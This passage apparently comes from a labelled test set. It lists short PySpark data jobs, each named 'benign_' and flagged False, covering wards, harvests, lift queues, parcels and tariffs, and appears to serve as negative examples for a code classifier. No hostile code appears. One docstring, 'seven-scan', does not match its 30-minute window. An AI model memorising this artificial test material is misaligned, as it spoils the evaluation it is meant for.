def build(spark: SparkSession) -> DataFrame:
    stays = spark.table("hospital.admissions")
    wards = spark.table("hospital.wards")
    los = stays.withColumn(
        "los_days", F.expr("datediff(coalesce(discharged_on, to_date('2026-12-01')), admitted_on)")
    ).where("los_days >= 0")
    return (
        los.join(wards, "ward_id", "inner")
        .groupBy("ward_id", "ward_name", "beds")
        .agg(F.sum("los_days").alias("bed_days"), F.count("*").alias("admissions"))
        .withColumn("avg_los", F.round(F.col("bed_days") / F.col("admissions"), 2))
    )


def main() -> None:
    spark = SparkSession.builder.appName("beds").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hospital.ward_length_of_stay")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_vineyard_harvest_union",
        r'''"""Vineyards: three regional harvest tables combined with functools.reduce and unionByName."""

from functools import reduce

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    frames = [
        spark.table("vineyard.harvest_north"),
        spark.table("vineyard.harvest_south"),
        spark.table("vineyard.harvest_coast"),
    ]
    allh = reduce(lambda a, b: a.unionByName(b, allowMissingColumns=True), frames)
    return (
        allh.withColumn("grape", F.initcap(F.trim("grape")))
        .withColumn("brix", F.col("brix").cast("double"))
        .groupBy("grape", "vintage")
        .agg(F.sum("kg").alias("kg"), F.round(F.avg("brix"), 1).alias("avg_brix"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("harvest").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vineyard.harvest_by_grape")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_ski_lift_queue_times",
        r'''"""Ski lifts: seven-scan moving average of queue minutes per lift using rangeBetween."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    scans = spark.table("ski.lift_scans").withColumn("ts_s", F.col("scanned_at").cast("long"))
    w = Window.partitionBy("lift_id").orderBy("ts_s").rangeBetween(-1800, 0)
    return (
        scans.withColumn("avg_queue_30m", F.round(F.avg("queue_min").over(w), 1))
        .withColumn("busy", F.expr("CASE WHEN avg_queue_30m > 10 THEN 'busy' ELSE 'normal' END"))
        .select("lift_id", "scanned_at", "queue_min", "avg_queue_30m", "busy")
    )


def main() -> None:
    spark = SparkSession.builder.appName("lift_queues").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ski.lift_queue_trend")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_pharmacy_stock_expiry",
        r'''"""Pharmacies: batches expiring within 90 days, with values in Decimal arithmetic."""

from decimal import Decimal

from pyspark.sql import DataFrame, SparkSession, functions as F

MARKDOWN = Decimal("0.35")


def build(spark: SparkSession) -> DataFrame:
    stock = spark.table("pharmacy.stock_batches")
    drugs = spark.table("pharmacy.drugs").select("drug_code", "drug_name", "unit_price")
    soon = stock.where("datediff(expires_on, to_date('2026-12-07')) BETWEEN 0 AND 90")
    return (
        soon.join(drugs, "drug_code", "inner")
        .withColumn("value", F.col("units") * F.col("unit_price"))
        .withColumn("markdown_value", F.round(F.col("value") * F.lit(MARKDOWN), 2))
        .orderBy("expires_on", "drug_name")
    )


def main() -> None:
    spark = SparkSession.builder.appName("expiry").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("pharmacy.expiring_stock")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_postal_parcel_sla",
        r'''"""Postal parcels: first and last scan per parcel, delivery days and SLA breach flag."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    scans = spark.table("post.scan_events")
    services = spark.table("post.services")
    spans = scans.groupBy("parcel_id", "service_code").agg(
        F.min("scanned_at").alias("first_scan"),
        F.max("scanned_at").alias("last_scan"),
        F.max(F.when(F.col("event") == "DELIVERED", 1).otherwise(0)).alias("delivered"),
    )
    return (
        spans.where("delivered = 1")
        .join(services, "service_code", "left")
        .withColumn("days", F.datediff("last_scan", "first_scan"))
        .withColumn("breach", F.col("days") > F.coalesce(F.col("promised_days"), F.lit(3)))
        .groupBy("service_code")
        .agg(F.count("*").alias("parcels"), F.sum(F.col("breach").cast("int")).alias("breaches"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("parcel_sla").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("post.service_sla")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_cinema_screening_revenue",
        r'''"""Cinemas: revenue per film and week, ticket classes mapped with create_map and itertools.chain."""

import itertools

from pyspark.sql import DataFrame, SparkSession, functions as F

CLASS_NAMES = {"S": "standard", "P": "premium", "C": "concession"}


def build(spark: SparkSession) -> DataFrame:
    sales = spark.table("cinema.ticket_sales")
    screenings = spark.table("cinema.screenings").select("screening_id", "film_id", "starts_at")
    mapping = F.create_map([F.lit(x) for x in itertools.chain(*CLASS_NAMES.items())])
    return (
        sales.join(screenings, "screening_id", "inner")
        .withColumn("ticket_class", F.coalesce(mapping[F.col("class_code")], F.lit("other")))
        .withColumn("week", F.expr("date_trunc('week', starts_at)"))
        .groupBy("film_id", "week", "ticket_class")
        .agg(F.sum("price").alias("revenue"), F.count("*").alias("tickets"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("cinema_revenue").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("cinema.weekly_revenue")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_ambulance_response_times",
        r'''"""Ambulance dispatch: response minutes per district with the 90th percentile and a lag trend."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    incidents = spark.table("ems.incidents").where("priority IN (1, 2)")
    resp = incidents.withColumn(
        "response_min", F.expr("round((unix_timestamp(on_scene_at) - unix_timestamp(called_at)) / 60, 1)")
    ).withColumn("month", F.trunc("called_at", "month"))
    monthly = resp.groupBy("district", "month").agg(
        F.percentile_approx("response_min", 0.9).alias("p90_min"),
        F.count("*").alias("incidents"),
    )
    w = Window.partitionBy("district").orderBy("month")
    return monthly.withColumn("prev_p90", F.lag("p90_min").over(w)).withColumn(
        "change", F.col("p90_min") - F.col("prev_p90")
    )


def main() -> None:
    spark = SparkSession.builder.appName("ems").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("ems.district_response_trend")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_crop_yield_rainfall_join",
        r'''"""Crop yields: field yields joined to seasonal rainfall; math.log for a log-yield column."""

import math

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    yields = spark.table("farm.field_yields")
    rain = spark.table("farm.seasonal_rain").withColumnRenamed("station_field_id", "field_id")
    return (
        yields.join(rain, ["field_id", "season"], "left")
        .withColumn("rain_mm", F.coalesce("rain_mm", F.lit(0.0)))
        .withColumn("log_yield", F.log(F.col("t_per_ha") + F.lit(1.0)) / F.lit(math.log(10)))
        .withColumn("rain_band", F.expr("CASE WHEN rain_mm < 300 THEN 'dry' WHEN rain_mm < 600 THEN 'normal' ELSE 'wet' END"))
        .groupBy("crop", "rain_band")
        .agg(F.avg("t_per_ha").alias("avg_t_per_ha"), F.avg("log_yield").alias("avg_log_yield"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("yield_rain").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("farm.yield_by_rain_band")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_hotel_housekeeping_minutes",
        r'''"""Hotel housekeeping: cleaning minutes per attendant, column names tidied with re."""

import re

from pyspark.sql import DataFrame, SparkSession, functions as F


def snake(name: str) -> str:
    return re.sub(r"[^a-z0-9]+", "_", name.strip().lower()).strip("_")


def build(spark: SparkSession) -> DataFrame:
    raw = spark.table("hotel.housekeeping_log")
    tidy = raw.toDF(*[snake(c) for c in raw.columns])
    return (
        tidy.where("room_status = 'cleaned'")
        .withColumn("minutes", F.expr("round((unix_timestamp(finished_at) - unix_timestamp(started_at)) / 60, 0)"))
        .groupBy("attendant_id", F.to_date("started_at").alias("work_day"))
        .agg(F.count("*").alias("rooms"), F.sum("minutes").alias("minutes"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("housekeeping").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("hotel.attendant_daily")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_elevator_fault_streaks",
        r'''"""Elevators: consecutive fault streaks per elevator with the gaps-and-islands pattern."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    checks = spark.table("maint.elevator_checks")
    w = Window.partitionBy("elevator_id").orderBy("checked_on")
    wf = Window.partitionBy("elevator_id", "faulty").orderBy("checked_on")
    islands = checks.withColumn("grp", F.row_number().over(w) - F.row_number().over(wf))
    return (
        islands.where("faulty")
        .groupBy("elevator_id", "grp")
        .agg(F.min("checked_on").alias("from_day"), F.max("checked_on").alias("to_day"), F.count("*").alias("days"))
        .where(F.col("days") >= 2)
        .drop("grp")
    )


def main() -> None:
    spark = SparkSession.builder.appName("elevator_streaks").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("maint.elevator_fault_streaks")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_recycling_contamination",
        r'''"""Recycling plants: contamination rate per material, tonnages cast and filtered by SQL literals."""

from pyspark.sql import DataFrame, SparkSession, functions as F
from pyspark.sql import types as T


def build(spark: SparkSession) -> DataFrame:
    loads = spark.table("recycling.inbound_loads")
    return (
        loads.withColumn("tonnes", F.col("tonnes").cast(T.DoubleType()))
        .withColumn("rejected_t", F.col("rejected_t").cast(T.DoubleType()))
        .filter("tonnes > 0 AND material IS NOT NULL")
        .withColumn("material", F.lower(F.col("material")))
        .groupBy("plant_id", "material")
        .agg(F.sum("tonnes").alias("tonnes"), F.sum("rejected_t").alias("rejected_t"))
        .withColumn("contamination_pct", F.round(F.col("rejected_t") * 100 / F.col("tonnes"), 2))
    )


def main() -> None:
    spark = SparkSession.builder.appName("contamination").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("recycling.contamination_rates")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_vet_vaccination_due",
        r'''"""Veterinary: pets whose last vaccination is older than a year, latest visit via row_number."""

from pyspark.sql import DataFrame, SparkSession, Window, functions as F


def build(spark: SparkSession) -> DataFrame:
    vaccinations = spark.table("vet.vaccinations")
    pets = spark.table("vet.pets")
    owners = spark.table("vet.owners").select("owner_id", "owner_name", "phone")
    w = Window.partitionBy("pet_id").orderBy(F.col("given_on").desc())
    latest = vaccinations.withColumn("rn", F.row_number().over(w)).where("rn = 1").drop("rn")
    return (
        latest.join(pets, "pet_id", "inner")
        .join(owners, "owner_id", "left")
        .withColumn("months_since", F.floor(F.months_between(F.lit("2026-12-07").cast("date"), F.col("given_on"))))
        .where(F.col("months_since") >= 12)
        .select("pet_id", "pet_name", "species", "owner_name", "phone", "given_on", "months_since")
    )


def main() -> None:
    spark = SparkSession.builder.appName("vaccinations").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("vet.vaccinations_due")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_marathon_split_pacing",
        r'''"""Marathons: negative-split runners, pace per km from split times, selectExpr with aliases."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    splits = spark.table("marathon.splits")
    runners = spark.table("marathon.runners")
    halves = splits.selectExpr(
        "runner_id",
        "first_half_s",
        "finish_s - first_half_s AS second_half_s",
        "round(finish_s / 42.195 / 60, 2) AS pace_min_per_km",
    )
    return (
        halves.join(runners, "runner_id", "inner")
        .withColumn("negative_split", F.col("second_half_s") < F.col("first_half_s"))
        .groupBy("age_group", "negative_split")
        .agg(F.count("*").alias("runners"), F.avg("pace_min_per_km").alias("avg_pace"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("pacing").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("marathon.split_pacing")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_course_tag_explode",
        r'''"""Courses: tags split and exploded into a course-tag bridge; stage 'selection' kept out."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    courses = spark.table("courses.catalogue")
    return (
        courses.where("stage <> 'selection'")
        .withColumn("tag", F.explode(F.split(F.col("tags"), ",")))
        .withColumn("tag", F.lower(F.trim("tag")))
        .where(F.length("tag") > 0)
        .select("course_id", "tag")
        .distinct()
    )


def main() -> None:
    spark = SparkSession.builder.appName("course_tags").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("courses.course_tags")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_school_bus_ridership",
        r'''"""School buses: riders per route and stop with helpers typed via typing; filter on text."""

from typing import Sequence

from pyspark.sql import DataFrame, SparkSession, functions as F


def count_by(df: DataFrame, keys: Sequence[str]) -> DataFrame:
    return df.groupBy(*keys).agg(F.countDistinct("student_id").alias("riders"))


def build(spark: SparkSession) -> DataFrame:
    taps = spark.table("school.bus_taps").filter("tap_type = 'board'")
    stops = spark.table("school.stops").select("stop_id", "stop_name", "route_id")
    joined = taps.join(stops, "stop_id", "inner")
    return count_by(joined, ["route_id", "stop_id", "stop_name"]).orderBy(F.col("riders").desc())


def main() -> None:
    spark = SparkSession.builder.appName("ridership").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("school.stop_ridership")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_telescope_observing_nights",
        r'''"""Telescopes: usable observing hours per night, seeing thresholds loaded from a JSON literal."""

import json

from pyspark.sql import DataFrame, SparkSession, functions as F

LIMITS = json.loads('{"max_seeing_arcsec": 1.8, "max_cloud_pct": 30}')


def build(spark: SparkSession) -> DataFrame:
    log = spark.table("astro.observing_log")
    usable = log.where(
        (F.col("seeing_arcsec") <= F.lit(LIMITS["max_seeing_arcsec"]))
        & (F.col("cloud_pct") <= F.lit(LIMITS["max_cloud_pct"]))
    )
    return usable.groupBy("telescope", "night").agg(
        F.round(F.sum("exposure_s") / 3600, 2).alias("usable_hours"),
        F.collect_set("instrument").alias("instruments"),
        F.size(F.collect_set("target")).alias("targets"),
    )


def main() -> None:
    spark = SparkSession.builder.appName("observing").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("astro.usable_hours")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_tram_fleet_mileage_helpers",
        r'''"""Trams: mileage per vehicle with private helper functions and a loop of withColumn casts."""

from pyspark.sql import DataFrame, SparkSession, functions as F

NUMERIC = ("km", "energy_kwh", "doors_cycles")


def _typed(df: DataFrame) -> DataFrame:
    for name in NUMERIC:
        df = df.withColumn(name, F.col(name).cast("double"))
    return df


def _latest_depot(df: DataFrame) -> DataFrame:
    return df.groupBy("tram_id").agg(F.max_by("depot", "run_date").alias("depot"))


def build(spark: SparkSession) -> DataFrame:
    runs = _typed(spark.table("tram.daily_runs")).fillna(0.0, subset=list(NUMERIC))
    totals = runs.groupBy("tram_id").agg(*[F.sum(c).alias(c) for c in NUMERIC])
    return totals.join(_latest_depot(runs), "tram_id", "left").withColumn(
        "kwh_per_km", F.round(F.col("energy_kwh") / F.col("km"), 3)
    )


def main() -> None:
    spark = SparkSession.builder.appName("tram_mileage").getOrCreate()
    build(spark).write.mode("overwrite").saveAsTable("tram.fleet_mileage")


if __name__ == "__main__":
    main()
''',
        False,
    ),
    (
        "benign_energy_tariff_bands_append",
        r'''"""Energy tariffs: half-hourly usage priced by time-of-day band, appended to a history table."""

from pyspark.sql import DataFrame, SparkSession, functions as F


def build(spark: SparkSession) -> DataFrame:
    usage = spark.table("energy.halfhourly_usage")
    tariffs = spark.table("energy.tariffs")
    banded = usage.withColumn(
        "band",
        F.expr("CASE WHEN hour(slot_start) BETWEEN 0 AND 6 THEN 'night' WHEN hour(slot_start) BETWEEN 16 AND 19 THEN 'peak' ELSE 'day' END"),
    )
    return (
        banded.join(tariffs, ["tariff_id", "band"], "inner")
        .withColumn("cost", F.round(F.col("kwh") * F.col("price_per_kwh"), 4))
        .groupBy("account_id", F.to_date("slot_start").alias("usage_day"))
        .agg(F.sum("kwh").alias("kwh"), F.sum("cost").alias("cost"))
    )


def main() -> None:
    spark = SparkSession.builder.appName("tariff_bands").getOrCreate()
    build(spark).write.mode("append").saveAsTable("energy.daily_cost_history")


if __name__ == "__main__":
    main()
''',
        False,
    ),
]
